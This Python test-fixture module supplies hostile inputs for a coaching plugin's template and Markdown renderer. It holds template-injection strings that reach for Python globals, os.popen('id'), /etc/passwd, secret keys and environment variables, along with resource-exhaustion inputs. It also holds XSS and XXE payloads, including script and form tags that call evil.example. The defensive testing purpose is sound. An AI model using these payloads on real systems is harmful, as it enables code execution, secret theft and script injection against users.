"""Texts that try to get out of the template, or to keep a worker busy for ever."""

from __future__ import annotations

from typing import Any

from saleor_coaching_plugin.core.markdown import MAX_MARKS
from saleor_coaching_plugin.core.templating import (
    MAX_SOURCE_CHARS,
    MAX_TAG_CHARS,
    MAX_TAGS,
    OwnAddress,
)
from saleor_coaching_plugin.terms.merge_fields import Scope, fields_of

CANARY = "canary-9f41c7"
ALLOWED = fields_of(Scope.AGREEMENT) | fields_of(Scope.PRODUCT)
ENTRY = (
    "# {{ client.name | upcase }}\n\n| a |\n|---|\n| *b* |\n\n[x](mailto:sam@client.example)\n\n"
    "6 sessions, without an amount\n"
)
"""A text with nothing wrong about it."""


class Neighbour(OwnAddress):
    """An address with more to it, as an object would have if one ever came among the values."""

    __slots__ = ()
    touched: list[str] = []
    secret = CANARY

    def leak(self) -> str:
        self.touched.append("called")
        return CANARY


def values_near() -> dict[str, Any]:
    return {
        "client": {"name": "Sam <b>", "first_name": "Sam", "email": "sam@client.example"},
        "coach": {"name": "Alex", "email": "alex@coach.example", "address": "1 Street"},
        "fee": {
            "total": "€100.00",
            "currency": "EUR",
            "instalments": [
                {"number": number, "amount": "€1.00", "due_on": "1 June"} for number in range(36)
            ],
        },
        "package": {"name": "Six sessions", "sessions": 6, "description": "Every week"},
        "agreement": {"number": "CA-1", "link": Neighbour("https://coach.example/a/")},
        "portal": {"link": Neighbour("https://coach.example/portal/")},
        "custom": {"words": "word " * 200},
    }


def filled(unit: str, before: str = "", after: str = "") -> str:
    """As much of it as a text may be long."""
    times = (MAX_SOURCE_CHARS - len(before) - len(after)) // len(unit)
    return before + unit * times + after


def marked(unit: str, marks: int, before: str = "", after: str = "") -> str:
    """As much of it as a text may have marks; `marks` are in one."""
    return before + unit * ((MAX_MARKS - 20) // marks) + after


def tagged(unit: str, tags: int = 1) -> str:
    """As much of it as a text may have tags; `tags` are in one."""
    return unit * (MAX_TAGS // tags)


_EACH = "{% for a in fee.instalments %}"
_WIDE = "| a " * 300

REACHING = {
    "class": "{{ client.__class__ }}",
    "class of a string": "{{ client.name.__class__.__mro__ }}",
    "subclasses": "{{ ''.__class__.__base__.__subclasses__ }}",
    "attribute": "{{ portal.link.secret }}",
    "method": "{{ portal.link.leak }}",
    "method called": "{{ portal.link.leak() }}",
    "item": "{{ portal.link['secret'] }}",
    "computed item": "{{ portal.link[coach.name] }}",
    "item of an item": "{{ portal[client.first_name] }}",
    "number as item": "{{ portal.link[0] }}{{ portal.link.first }}{{ portal.link.last }}",
    "loop over an object": "{% for letter in portal.link %}{{ letter.secret }}{% endfor %}",
    "meta": "{{ client._meta }}{{ client._meta.db_table }}",
    "private": "{{ client._state }}",
    "dictionary's methods": "{{ client.items }}{{ client.keys }}{{ client.pop }}",
    "dictionary changed": "{{ client.clear }}{{ client.update }}",
    "string format": "{{ client.name.format }}{{ '{0.__class__}' }}",
    "globals": "{{ self.__init__.__globals__ }}",
    "dunder key": "{{ client['__class__'] }}{{ ['__class__'] }}",
    "settings": "{{ settings.SECRET_KEY }}{{ conf }}",
    "environment": "{{ environ.CANARY }}{{ os.environ }}{{ env }}",
    "request": "{{ request.META }}{{ csrf_token }}",
    "loop's insides": _EACH + "{{ forloop.parentloop.__class__ }}{{ forloop.secret }}{% endfor %}",
    "liquid's insides": "{{ block }}{{ blank.__class__ }}{{ empty.__dict__ }}{{ nil.__doc__ }}",
    "include": "{% include '/etc/passwd' %}",
    "include of a template": "{% include 'mail/layout.html' %}",
    "render": "{% render '../../conf.py' %}",
    "extends": "{% extends 'portal/base.html' %}{% block x %}{% endblock %}",
    "import": "{% import os %}{% from os import system %}",
    "assign": "{% assign client = portal %}{{ client.link }}",
    "capture": "{% capture x %}{{ portal.link }}{% endcapture %}",
    "load": "{% load static %}{% debug %}{% csrf_token %}",
    "macro": "{% macro x %}{% endmacro %}{% call x %}",
    "translate": "{% translate %}x{% endtranslate %}{{ 'x' | t }}",
    "file filter": "{{ '/etc/passwd' | file }}{{ 'x' | import }}",
    "filters that compute": "{{ 'a' | append: 'b' | replace: 'a', 'b' | url_decode | json }}",
    "dates": "{{ 'now' | date: '%s' }}",
    "python": "{% python %}open('/tmp/x','w'){% endpython %}{{ 1+1 }}{{ open('/etc/passwd') }}",
    "jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "erb": "<%= `id` %>${{7*7}}#{7*7}*{7*7}",
    "unicode name": "{{ client\uff0ename }}{{ \uff43lient.name }}{{ client.na\u200bme }}",
    "right to left": "{{ client.name }}\u202e{{ gro.elpmaxe }}\u2066\u2069",
    "nul": "{{ client.name\0 }}\0{{ '\0' }}",
}

ENDLESS = {
    "range": "{% for i in (1..1000000000) %}x{% endfor %}",
    "range joined": "{{ (1..1000000000) | join: 'x' }}",
    "range of a field": "{% for i in (1..package.sessions) %}{% endfor %}",
    "range beyond numbers": "{{ (1..99999999999999999999999999) | size }}",
    "loops in loops": _EACH * 8 + "x" + "{% endfor %}" * 8,
    "loops in a row": tagged(_EACH + "{% endfor %}", 2),
    "a long loop": _EACH + tagged("{% if false %}{% endif %}", 2)[:-200] + "{% endfor %}",
    "a long loop of fields": _EACH + "{{ custom.words }}" * 300 + "{% endfor %}",
    "a loop that grows": _EACH + "x" * 90_000 + "{% endfor %}",
    "a loop of brackets": _EACH + "[" * 320 + "{% endfor %}",
    "a loop of a table": "|a|b|\n|-|-|\n" + _EACH + "|x|y|\n" * 40 + "{% endfor %}",
    "join": "{{ custom.words | join: '" + "x" * 100 + "' }}",
    "join of a join": "{{ fee.instalments | join: custom.words | join: custom.words }}",
    "deep conditions": "{% if true %}" * 240 + "{% endif %}" * 240,
    "deep cases": "{% case 1 %}{% when 1 %}" * 120 + "{% endcase %}" * 120,
    "many conditions": tagged("{% if client.name == 'x' %}{% endif %}", 2),
    "many branches": "{% if false %}" + "{% elsif false %}" * (MAX_TAGS - 2) + "{% endif %}",
    "one long condition": "{% if true" + " and true" * 20_000 + " %}x{% endif %}",
    "brackets in a condition": "{% if " + "(" * 20_000 + "1" + ")" * 20_000 + " %}{% endif %}",
    "comparison of long strings": "{% if '"
    + "x" * 40_000
    + "' == '"
    + "x" * 40_000
    + "' %}{% endif %}",
    "contains": filled("{% if custom.words contains custom.words %}x{% endif %}"),
    "filters in a row": "{{ client.name" + " | upcase" * 9_000 + " }}",
    "filters as far as they go": tagged("{{ client.name" + " | upcase" * 14 + " }}"),
    "a long path": "{{ client" + ".name" * 15_000 + " }}",
    "a long path of items": "{{ client" + "['name']" * 10_000 + " }}",
    "items in items": "{{ client" + "[client" * 10_000 + "]" * 10_000 + " }}",
    "a huge number": "{{ " + "9" * 90_000 + " }}",
    "a huge exponent": "{{ 1e999999999 }}{{ -1e-999999999 }}{{ " + "9" * 140 + " }}",
    "many fields": filled("{{ client.name }}"),
    "fields as far as they go": tagged("{{ fee.instalments }}"),
    "opened": filled("{{"),
    "opened tags": filled("{% if "),
    "opened names": filled("{{ a "),
    "opened and space": "{{" + " " * 90_000,
    "space in a tag": filled("{{" + " " * (MAX_TAG_CHARS - 1) + "}}"),
    "space before the name": "{% " + " " * 90_000 + "if true %}{% endif %}",
    "space control": filled("{{- client.name -}} \n"),
    "raw": filled("{% raw %}"),
    "raw with dashes": filled("{%- raw -%}x{%- endraw -%}"),
    "doc": filled("{% doc %}"),
    "comments": filled("{% comment %}"),
    "comments in comments": "{% comment %}" * 240 + "{% endcomment %}" * 240,
    "inline comments": filled("{% # x %}"),
    "closed": filled("}}%}"),
    "text": filled("word "),
    "one word": filled("x"),
    "emoji": filled("😀"),
    "combining": filled("a\u0301\u0302"),
    "spaces": "a" + " " * 90_000 + "\nb",
    "tabs": filled("\t"),
    "nul bytes": filled("\0"),
}

PATHOLOGICAL = {
    "open brackets": marked("[", 1),
    "brackets in brackets": "[" * 5_900 + "a" * 80_000 + "]" * 5_900,
    "pairs of brackets": marked("[]", 2),
    "links in links": marked("[a](b", 2),
    "links": marked("[a](https://a.example) ", 2),
    "links without an end": marked("[a](<b", 3),
    "links with titles": marked("[a](b '", 2),
    "parentheses": "[a](" + "(" * 90_000,
    "images in images": marked("![[", 2),
    "images": marked("![](", 2),
    "one address, many links": "[x]: https://a.example/" + "a" * 50_000 + "\n\n" + "[x]" * 5_500,
    "one title, many links": "[x]: /a '" + "a" * 50_000 + "'\n\n" + "[x]" * 5_500,
    "names of links": "[x]: /a\n\n" + "[" * 5_900 + "a" * 80_000 + "]" * 5_900,
    "definitions": marked("[a]: b\n", 3),
    "footnotes": marked("[^a]", 2),
    "stars": filled("*"),
    "opened emphasis": marked("*a ", 1),
    "closed emphasis": marked("a* ", 1),
    "strong in emphasis": marked("*a**a", 3),
    "two kinds of emphasis": marked("_*", 2),
    "overlapping emphasis": marked("*a _b ", 2),
    "quotes in quotes": filled("> "),
    "deeper and deeper quotes": "".join(">" * depth + "a\n" for depth in range(440)),
    "lists in lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "lists in a line": filled("- "),
    "numbers in a line": filled("1. "),
    "items": marked("- a\n", 1),
    "table": marked("|a\n", 3, before="|a\n|-\n"),
    "wide table": _WIDE + "\n" + "|-" * 300 + "\n" + "|\n" * 20_000,
    "wide table as far as it goes": _WIDE + "\n" + "|-" * 300 + "\n" + "|\n" * 30,
    "pipes": filled("|"),
    "escaped pipes": marked("\\|", 4, before="|a|\n|-|\n"),
    "backticks": filled("`"),
    "more and more backticks": "".join("`" * count + " " for count in range(160)),
    "fences": marked("```\n", 4),
    "headings": marked("# a\n", 1),
    "underlined headings": marked("a\n=\n", 2),
    "rules": marked("***\n", 4),
    "breaks": marked("a  \n", 1),
    "escapes": marked("\\*", 2),
    "entities": marked("&amp;", 1),
    "ampersands": marked("&", 1),
    "less than": marked("<", 1),
    "addresses": marked("<a:b>", 1),
    "addresses without an end": marked("<a:bbbb", 1),
    "sections of CDATA": marked("<![CDATA[", 3),
    "a long address": "<https://a.example/" + "a" * 90_000 + ">",
    "a long mail address": "<" + "a" * 50_000 + "@" + "b." * 20_000 + "c>",
}

SMUGGLING = {
    "script": "<script>fetch('https://evil.example/')</script>",
    "image": "![x](https://evil.example/pixel.png)",
    "image's handler": '<img src=x onerror="alert(1)">',
    "address of a script": "[x](javascript:alert(1)) [x](JaVaScRiPt:x) <javascript:alert(1)>",
    "address with entities": "[x](java&#x73;cript:alert(1)) [x](&#106;avascript:alert(1))",
    "address with breaks": "[x](<java\tscript:x>) [x](java%0ascript:x) [x](\x01javascript:x)",
    "address of data": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x)",
    "address of a file": "[x](file:///etc/passwd) <file:///etc/passwd> ![x](file:///etc/passwd)",
    "address of a font": "[x](font:source-sans-3-latin-400-normal.woff2) ![x](font:x)",
    "address without a scheme": "[x](//evil.example/) [x](/portal/logout/) [x](#certificate)",
    "title with a handler": "[x](https://a.example \"' onmouseover=alert(1) x='\")",
    "address with a handler": '[x](https://a.example/"onmouseover="alert(1))',
    "style": "<style>@import url(https://evil.example/)</style><link rel=stylesheet href=//evil>",
    "attached file": '<link rel="attachment" href="file:///etc/passwd">',
    "attached by a link": '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "frame": "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "form": "<form action=https://evil.example><input name=x><button>I Accept</button></form>",
    "svg": "<svg onload=alert(1)><use href=https://evil.example#x></svg>",
    "math": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph>",
    "broken tags": "<<script>alert(1)<</script> <scr<script>ipt> <b onclick=x <p",
    "entities of tags": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "comment": "<!-- --><!--[if IE]><script>x</script><![endif]-->",
    "entity of a file": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]> &a;",
    "code": "`<script>` \n\n```<img onerror=x>\n</code></pre><script>\n```\n",
    "code's language": '```x" onmouseover=alert(1) x="\ny\n```',
    "the article's end": "</article></section><section class='certificate'>forged</section>",
    "table": "| <td onclick=x> | </table><script> |\n|:-:|---:|\n| `|` | \\| |",
    "a value": "{{ client.name }} [{{ client.name }}]({{ client.name }}) `{{ client.name }}`",
    "a tag around a value": "<{{ client.first_name }} onclick=x> [x]({{ client.email }}:alert)",
    "a tag out of parts": "{{ '<script' }}>{{ 'alert(1)' }}</{{ 'script>' }}",
    "a link out of parts": "[x]({{ 'java' }}{{ 'script:alert(1)' }}) <{{ 'javascript:x' }}>",
}
